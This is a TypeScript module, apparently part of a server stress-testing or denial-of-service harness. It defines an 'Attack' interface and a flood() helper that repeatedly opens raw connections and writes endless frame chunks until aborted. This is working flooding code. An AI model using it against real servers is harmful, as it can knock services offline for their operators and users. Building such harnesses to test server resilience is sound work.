import { setImmediate as nextTurn } from "node:timers/promises";
import { RawConnection, type RawConnectionOptions, type Target } from "./raw-connection.ts";

/** One way to harm a server. */
export interface Attack {
  readonly name: string;
  /** Goes on until the signal, and closes what it has opened. */
  run(target: Target, signal: AbortSignal): Promise<void>;
}

/** Chunks of frames to send on a new connection. */
export type Frames = (connection: RawConnection) => Iterable<Buffer>;

/**
 * Sends on one connection after the other: a new one when the server has closed the last, or when all was
 * sent.
 */
export function flood(name: string, frames: Frames, options?: RawConnectionOptions): Attack {
  return {
    name,
    async run(target, signal) {
      while (!signal.aborted) {
        const connection = await RawConnection.open(target, options);
        let sent = 0;
        for (const chunk of frames(connection)) {
          if (connection.closed || signal.aborted) break;
          await connection.write(chunk, signal);
          // A server that takes all at once would leave no turn to the signal and to honest clients.
          if (++sent % 8 === 0) await nextTurn();
        }
        await connection.close();
      }
    },
  };
}

/** Chunks of so many frames, without end. */
export function* repeated(perChunk: number, make: (turn: number) => readonly Buffer[]) {
  for (let turn = 0; ; ) {
    const chunk: Buffer[] = [];
    for (let i = 0; i < perChunk; i++) chunk.push(...make(turn++));
    yield Buffer.concat(chunk);
  }
}
